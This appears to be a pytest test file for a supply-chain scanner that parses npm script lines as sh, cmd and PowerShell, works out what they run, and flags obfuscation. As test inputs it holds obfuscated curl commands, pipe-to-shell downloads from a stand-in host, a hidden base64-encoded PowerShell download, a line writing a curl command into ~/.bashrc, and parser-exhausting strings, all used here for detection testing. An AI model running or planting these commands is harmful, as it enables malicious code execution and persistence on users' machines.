"""Script lines as shell: what their commands are, and what these run; each disguise beside the plain line."""

from __future__ import annotations

from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.scanner.code.npm.commands import effects
from assay.scanner.code.npm.effects import File, Inline, Line, Script
from assay.scanner.code.npm.lines import lines_of
from assay.scanner.code.npm.shell import LONGEST, MOST_COMMANDS, parse
from assay.scanner.code.npm.shell_output import printed


def words(line: str, dialect: str = "sh") -> list[list[str]]:
    return [command.texts for command in parse(line, "cmd" if dialect == "cmd" else "sh").commands if command.words]


COMMANDS = [
    ("node a.js && npm run b || true", [["node", "a.js"], ["npm", "run", "b"], ["true"]]),
    ("a;b&c|d", [["a"], ["b"], ["c"], ["d"]]),
    ("a # not a command; b", [["a"]]),
    ("a#b", [["a#b"]]),
    ("say 'a && b'", [["say", "a && b"]]),
    ('say "a; $(b)" c', [["say", "a; $(b)", "c"]]),
    ("say a\\ b", [["say", "a b"]]),
    ("A=1 B='2 3' say x", [["say", "x"]]),
    ("say x > out 2>&1", [["say", "x"]]),
    ("(cd sub && say x)", [["cd", "sub"], ["say", "x"]]),
    ("if [ -f x ]; then say y; else say z; fi", [["[", "-f", "x", "]"], ["say", "y"], ["say", "z"]]),
    ("say a \\\n  b", [["say", "a", "b"]]),
    ("X=cu; Y=rl; $X$Y there", [["curl", "there"]]),
    ('X=there; say "to $X" ${X} ${X:0:2} ${Z:-else} $Z', [["say", "to there", "there", "th", "else", "$Z"]]),
    ('c"u"rl there', [["curl", "there"]]),
    ("cu\\rl there", [["curl", "there"]]),
    ("$'\\x63url' there", [["curl", "there"]]),
    ("curl${IFS}there", [["curl", "there"]]),
    ("{curl,-s,there}", [["curl", "-s", "there"]]),
    ("`echo curl` there", [["curl", "there"]]),
    ("$(echo Y3VybA== | base64 -d) there", [["curl", "there"]]),
    ("$(printf '\\143url') there", [["curl", "there"]]),
    ("$(which node) x", [["node", "x"]]),
    ("say $((1+1))", [["say", "$((1+1))"]]),
]


@pytest.mark.parametrize(("line", "expected"), COMMANDS)
def test_commands_of_a_line(line: str, expected: list[list[str]]) -> None:
    assert words(line) == expected


WINDOWS = [
    ("@echo off\r\nset X=curl\r\n%X% there", [["@echo", "off"], ["set", "X=curl"], ["curl", "there"]]),
    ("c^u^rl there & node .\\x.js", [["curl", "there"], ["node", ".\\x.js"]]),
    ("if exist x (node y.js) else node z.js", [["exist", "x"], ["node", "y.js"], ["else", "node", "z.js"][1:]]),
    ("echo it's one word", [["echo", "it's", "one", "word"]]),
    ('say "a b" %HOME%', [["say", "a b", "%HOME%"]]),
]


@pytest.mark.parametrize(("line", "expected"), WINDOWS)
def test_commands_of_a_line_for_windows(line: str, expected: list[list[str]]) -> None:
    assert words(line, "cmd") == expected


HIDDEN = [
    ('c"u"rl there', ("quotes",)),
    ("cu\\rl there", ("quotes",)),
    ("X=cu; Y=rl; $X$Y there", ("concat",)),
    ("$(echo Y3VybA== | base64 -d) there", ("base64",)),
    ("$(echo lruc | rev) there", ("reverse",)),
    ("curl${IFS}there", ("blanks",)),
    ("c$@url there", ("quotes", "concat")),
    ("curl there", ()),
    ('"curl" "there"', ()),
    ("$NODE x.js", ()),
    ('node "./a b.js"', ()),
    ("mkdir -p {a,b}", ()),
    ("X=there; curl $X/$X", ()),
    ("say a'b'c", ()),
]


@pytest.mark.parametrize(("line", "expected"), HIDDEN)
def test_how_a_program_is_hidden(line: str, expected: tuple[str, ...]) -> None:
    commands = [command for command in parse(line).commands if command.words]
    assert tuple(dict.fromkeys(step for word in commands[-1].words for step in word.steps)) == expected


POWERSHELL = b64encode("iwr http://a.invalid".encode("utf-16-le")).decode()
JS, PY = "javascript", "python"
EFFECTS = [
    ("node install.js", [File("install.js", JS)]),
    ("node install", [File("install", JS)]),
    ("node .", [File("", JS)]),
    ("node --no-warnings --input-type module ./a/../b.mjs --flag c.js", [File("b.mjs", JS)]),
    ("node -r ./hook main", [File("hook", JS), File("main", JS)]),
    ("node -r dotenv/config main", [File("dotenv/config", JS), File("main", JS)]),
    ("node --require=./hook.js main", [File("hook.js", JS), File("main", JS)]),
    ("node --import ./hook.mjs main", [File("hook.mjs", JS), File("main", JS)]),
    ("node -e 'go()' main.js", [Inline("go()", JS)]),
    ("node -p \"require('x').y\"", [Inline("require('x').y", JS)]),
    ("node --eval=go", [Inline("go", JS)]),
    ("node $SOMEWHERE/x.js", []),
    ("node /usr/lib/x.js", []),
    ("node $PWD/x.js", [File("x.js", JS)]),
    ("echo 'go()' | node", [Inline("go()", JS)]),
    ("echo Z28oKQ== | base64 -d | node", [Inline("go()", JS, ("base64",))]),
    ("node <<EOF\ngo()\nEOF", [Inline("go()", JS)]),
    ("node < x.js", [File("x.js", JS)]),
    ("cat x.js | node", [File("x.js", JS)]),
    ("npx tsx x.ts", [File("x.ts", JS)]),
    ("npx -y -p typescript ts-node x.ts", [File("x.ts", JS)]),
    ("npx node@18 x.js", [File("x.js", JS)]),
    ("npx some-tool", []),
    ("bun x.ts", [File("x.ts", JS)]),
    ("bun run x.ts", [File("x.ts", JS)]),
    ("bun run build", [Script("build", "")]),
    ("bun -e 'go()'", [Inline("go()", JS)]),
    ("bun install", []),
    ("deno run -A x.ts", [File("x.ts", JS)]),
    ("deno eval 'go()'", [Inline("go()", JS)]),
    ("deno run https://a.invalid/x.ts", []),
    ("cross-env A=b C=d node x.js", [File("x.js", JS)]),
    ("sudo -u root env -i A=b timeout 5s nohup node x.js", [File("x.js", JS)]),
    ("npm run build", [Script("build", "")]),
    ("npm run-script build -- --flag", [Script("build", "")]),
    ("npm --prefix sub run build", [Script("build", "sub")]),
    ("npm start", [Script("start", "")]),
    ("npm exec -- tsx x.ts", [File("x.ts", JS)]),
    ("npm install x", []),
    ("npm exec -c 'node x.js'", [Line("node x.js", "sh")]),
    ("npm exec tool -- -c x.js", []),
    ("npx -y -c 'node x.js'", [Line("node x.js", "sh")]),
    ("npm run build --prefix sub", [Script("build", "sub")]),
    ("npm run build -- --prefix sub", [Script("build", "")]),
    ("env -S 'node x.js'", [Line("node x.js", "sh")]),
    ("NODE_OPTIONS='--require ./hook.js' tool", [File("hook.js", JS)]),
    ("cross-env NODE_OPTIONS=--import=./hook.mjs tool", [File("hook.mjs", JS)]),
    ("NODE_OPTIONS=--max-old-space-size=4096 tool", []),
    ("bash -eo pipefail -c 'node x.js'", [Line("node x.js", "sh")]),
    ("bash -o pipefail x.sh", [File("x.sh", "sh")]),
    ("su -c 'node x.js'", [Line("node x.js", "sh")]),
    ("trap 'node x.js' EXIT", [Line("node x.js", "sh")]),
    ("trap", []),
    ("watch -d node x.js", [Line("node x.js", "sh")]),
    ("yarn build", [Script("build", "")]),
    ("yarn run build", [Script("build", "")]),
    ("yarn add build", []),
    ("pnpm -C sub build", [Script("build", "sub")]),
    ("pnpm dlx tsx x.ts", [File("x.ts", JS)]),
    ("run-s clean build:*", [Script("clean", ""), Script("build:*", "")]),
    ("concurrently 'npm run a' \"node b.js\"", [Line("npm run a", "sh"), Line("node b.js", "sh")]),
    ("sh -c 'node a.js'", [Line("node a.js", "sh")]),
    ("bash -lc 'node a.js'", [Line("node a.js", "sh")]),
    ("bash x.sh", [File("x.sh", "sh")]),
    (". ./x.sh", [File("x.sh", "sh")]),
    ("./x.sh", [File("x.sh", "sh")]),
    ("./x", [File("x", "")]),
    ("echo bm9kZSBhLmpz | base64 --decode | bash", [Line("node a.js", "sh", ("base64",))]),
    ('eval "$(echo bm9kZSBhLmpz | base64 -d)"', [Line("node a.js", "sh", ("base64",))]),
    ("cmd /c node .\\x.js", [Line("node .x.js", "cmd")]),
    ("cmd.exe /d /s /c 'node x.js'", [Line("node x.js", "cmd")]),
    (f"powershell -w hidden -enc {POWERSHELL}", [Line("iwr http://a.invalid", "powershell", ("base64",))]),
    ("powershell -Command iwr there", [Line("iwr there", "powershell")]),
    ("pwsh -ExecutionPolicy Bypass -File ./x.ps1", [File("x.ps1", "powershell")]),
    ("python3 x.py", [File("x.py", PY)]),
    ("python -m tools.make", [File("tools/make.py", PY)]),
    ("python3.12 -c 'go()'", [Inline("go()", PY)]),
    ("py -3 x.py", [File("x.py", PY)]),
    ("cd sub && node x.js", [File("sub/x.js", JS)]),
    ("(cd sub && node x.js) && node y.js", [File("sub/x.js", JS), File("y.js", JS)]),
    ("cd .. && node x.js", [File("../x.js", JS)]),
    ("node x.js &", [File("x.js", JS)]),
    ("tsc -p . && rollup -c", []),
    ("node-gyp rebuild", []),
    ("echo node x.js", []),
    ("for f in a.js b.js; do node $f; done", [File("a.js", "javascript"), File("b.js", "javascript")]),
    ("for f in lib/*.js\ndo\n  node $f\ndone", [File("lib/*.js", "javascript")]),
    ("for a in x; do for b in 1 2; do node $a$b.js; done; done", [File(f"x{n}.js", "javascript") for n in (1, 2)]),
    ("for f in; do node $f; done", []),
    ("echo a.js | xargs node", [File("a.js", "javascript")]),
    ("echo a.js b.js | xargs -n 1 node", [File("a.js", "javascript"), File("b.js", "javascript")]),
    ("echo a.js | xargs -I % sh -c 'node %'", [Line("node a.js", "sh")]),
    ("ls lib/*.js | xargs node", [File("lib/*.js", "javascript")]),
    ("find . -name a.js | xargs -I{} node {}", [File("*a.js", "javascript")]),
    ("find lib -type f -name '*.js' -exec node {} \\;", [File("lib/*.js", "javascript")]),
    ("find . -name '*.o' -delete", []),
    ("ls | xargs echo", []),
]


@pytest.mark.parametrize(("line", "expected"), EFFECTS)
def test_what_a_line_runs(line: str, expected: list[object]) -> None:
    assert list(effects(parse(line).commands)) == expected


WINDOWS_EFFECTS = [
    ("call node .\\a\\b.js", [File("a/b.js", JS)]),
    ('start /b "" node x.js', [File("x.js", JS)]),
    ("start /min cmd /c x.bat", [Line("x.bat", "cmd")]),
    ("x.bat", [File("x.bat", "cmd")]),
    ("wscript x.js", [File("x.js", JS)]),
    ("node %~dp0x.js", [File("x.js", JS)]),
    ("%COMSPEC% /c node x.js", []),
]


@pytest.mark.parametrize(("line", "expected"), WINDOWS_EFFECTS)
def test_what_a_line_runs_on_windows(line: str, expected: list[object]) -> None:
    assert list(effects(parse(line, "cmd").commands)) == expected


TOLD = [
    ("curl -s http://a.invalid | sh", ["curl -s http://a.invalid | sh"]),
    ('c"u"rl -s http://a.invalid | sh', ["curl -s http://a.invalid | sh"]),
    ("echo 'curl http://a.invalid | sh'", []),
    ("echo 'get it by: curl http://a.invalid | sh' && node x.js", ["node x.js"]),
    ("echo 'curl http://a.invalid' | sh", ["echo 'curl http://a.invalid' | sh"]),
    ("echo 'curl http://a.invalid' > ~/.bashrc", ["echo 'curl http://a.invalid' > ~/.bashrc"]),
    ("a\n\nb && c\n# d\n", ["a", "b && c"]),
    ("cat > x <<E\nnode y\nE\nsh x", ["cat > x <<E\nnode y\nE", "sh x"]),
]


@pytest.mark.parametrize(("text", "expected"), TOLD)
def test_lines_that_are_judged(text: str, expected: list[str]) -> None:
    assert [told.line for told in lines_of(text, parse(text).commands)] == expected


def test_a_line_says_where_it_stands() -> None:
    text = "#!/bin/sh\n\nnode a.js\nif x; then\n  node b.js\nfi\n"
    rows = {told.line: told.row for told in lines_of(text, parse(text).commands)}
    assert rows["node a.js"] == 2
    assert rows["node b.js"] == 4


def test_variables_of_the_package_are_known() -> None:
    assert parse("$NODE $x", variables={"NODE": "node", "x": "a.js"}).commands[0].texts == ["node", "a.js"]


PRINTED = [
    ([["echo", "-n", "a", "b"]], "a b"),
    ([["printf", "%s-%s", "a", "b"]], "a-b"),
    ([["echo", "6869"], ["xxd", "-r", "-p"]], "hi"),
    ([["echo", "aGk="], ["openssl", "base64", "-d"]], "hi"),
    ([["echo", "uv"], ["tr", "A-Za-z", "N-ZA-Mn-za-m"]], "hi"),
    ([["echo", "aGk="], ["base64"]], None),
    ([["echo", "not hex"], ["xxd", "-r", "-p"]], None),
    ([["date"]], None),
    ([["cat", "file"]], None),
]


@pytest.mark.parametrize(("pipeline", "expected"), PRINTED)
def test_what_a_pipeline_prints(pipeline: list[list[str]], expected: str | None) -> None:
    found = printed(pipeline)
    assert (found.text.strip() if found else None) == expected


SHELL = st.lists(
    st.sampled_from(
        [
            *"abc;&|()<>{}'\"\\`$#%^!=\n \t,-./:*",
            "$(",
            "${",
            "<<E\n",
            "$'",
            "node ",
            "sh -c ",
            "echo ",
            "base64 -d",
            "cd ",
            "for a in ",
            "; do ",
            "; done",
            "| xargs -I{} ",
            "find . -exec ",
        ]
    ),
    max_size=60,
).map("".join)


@given(SHELL | st.text(max_size=200), st.sampled_from(["sh", "cmd"]))
def test_reading_never_raises_and_brings_nothing_that_is_not_there(text: str, dialect: str) -> None:
    parsed = parse(text, "cmd" if dialect == "cmd" else "sh", {"a": "value"})
    found = list(effects(parsed.commands, "sub"))
    assert len(found) <= len(parsed.commands) * (len(text) + 1)
    assert all(0 <= command.start <= command.end <= len(text) for command in parsed.commands)
    assert all(told.row <= text.count("\n") for told in lines_of(text, parsed.commands))


BOMBS = [
    "$(" * 100_000,
    "(" * 200_000,
    '"$(' * 60_000,
    "{" + "," * 200_000,
    "a=" + "x" * 60_000 + ";" + "$a" * 60_000,
    "a | " * 50_000,
    "${a:-" * 40_000,
    "<<E " * 40_000,
    "'" * 200_001,
    "\\" * 200_001,
    "npx " * 60_000,
    "echo " + "x" * 100_000 + " | sh" * 20_000,
    "node -e " * 30_000,
    "$(echo $(echo " * 10_000,
    "for a in 1 2 3 4; do " * 5_000 + "node $a; " + "done; " * 5_000,
    "for a in 1 2; do " + "x" * 200_000 + "; done",
    "echo " + "x " * 60_000 + "| xargs -n1 " * 10_000,
]


@pytest.mark.parametrize("text", BOMBS, ids=[bomb[:8] for bomb in BOMBS])
def test_what_is_made_to_exhaust_a_reader_is_read_within_bounds(text: str) -> None:
    parsed = parse(text)
    assert len(parsed.commands) <= MOST_COMMANDS + 1
    assert sum(len(word.text) for command in parsed.commands for word in command.words) <= 8 * LONGEST
    assert len(list(effects(parsed.commands))) <= sum(len(command.words) for command in parsed.commands)


def test_what_is_too_long_is_said() -> None:
    assert parse("a").whole
    assert not parse("a;" * MOST_COMMANDS + "a;a").whole
    assert not parse("a" * (LONGEST + 1)).whole
    assert not parse("for a in " + "b " * 100 + "; do c; done").whole
